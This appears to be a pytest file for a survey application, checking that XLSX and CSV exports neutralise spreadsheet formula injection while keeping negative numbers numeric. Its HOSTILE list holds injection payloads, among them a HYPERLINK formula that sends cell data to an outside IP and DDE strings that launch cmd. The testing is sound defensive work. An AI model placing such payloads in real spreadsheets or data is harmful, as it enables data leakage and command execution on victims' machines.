"""T44: answers that a spreadsheet would take for a formula are text in every export; negative numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cami_survey.operations import exports, forms, interviews
from cami_survey.store.api import SurveyFile
from tests.exchange.surveys import survey

FORM = """
| survey |
| | type | name | label |
| | text | code | Code |
| | text | said | =HYPERLINK("http://x") |
| | integer | degrees | How cold was it? |
| | decimal | change | Change |
| | select_one lists | chosen | Which? |
| choices |
| | list_name | name | label |
| | lists | one | @SUM(A1) |
| settings |
| | form_id | title |
| | camp | Camp |
"""
HOSTILE = [
    '=HYPERLINK("http://198.51.100.7/"&A1,"irbis")',
    "-1+cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "=cmd|'/C calc'!A0",
    'DDE("cmd")',
]
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def filled(tmp_path: Path) -> SurveyFile:
    """A survey with one interview for every hostile answer, taken in as data and as the code of the interview."""
    file = survey(tmp_path / "hub", "KG-9")
    path = tmp_path / "camp.md"
    path.write_text(FORM, "utf-8")
    forms.add(file, [path])
    for text in HOSTILE:
        running = interviews.start(file, "camp")
        for name, value in (("code", text), ("said", text), ("degrees", -20), ("change", "-0.5"), ("chosen", "one")):
            running.set(f"/data/{name}", value)
        running.finalise()
    return file


@pytest.mark.parametrize("headers", ["names", "labels"])
def test_t44_no_cell_of_a_workbook_is_a_formula(tmp_path: Path, filled: SurveyFile, headers: exports.Headers) -> None:
    with filled:
        exports.export(filled, tmp_path / "out.xlsx", headers=headers)
    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any("externalLink" in name for name in archive.namelist())
    assert sheets
    assert all(b"<f" not in sheet and b"hyperlink" not in sheet.lower().split(b"</sheetdata>")[1] for sheet in sheets)
    book = load_workbook(tmp_path / "out.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "b"}
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert sum(cell.value.lstrip() in {text.lstrip() for text in HOSTILE} for cell in texts) >= 2 * len(HOSTILE)
    assert all(cell.quotePrefix for cell in texts if cell.row > 1 and cell.value.startswith(BEGINS))
    numbers = [cell.value for cell in cells if cell.data_type == "n"]
    assert (numbers.count(-20), numbers.count(-0.5)) == (len(HOSTILE), len(HOSTILE))


def test_t44_no_field_of_a_csv_begins_as_a_formula_but_numbers_do(tmp_path: Path, filled: SurveyFile) -> None:
    with filled:
        exports.export(filled, tmp_path / "out.csv.zip", headers="labels")
    fields: list[str] = []
    with zipfile.ZipFile(tmp_path / "out.csv.zip") as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                text = archive.read(name).decode("utf-8-sig")
                fields += [field for row in csv.reader(io.StringIO(text, newline="")) for field in row]
    begun = [field for field in fields if field.startswith(BEGINS)]
    assert sorted(set(begun)) == ["-0.5", "-20"]
    assert len(begun) == 2 * len(HOSTILE)
    assert all(any(text.strip() in field for field in fields) for text in HOSTILE)
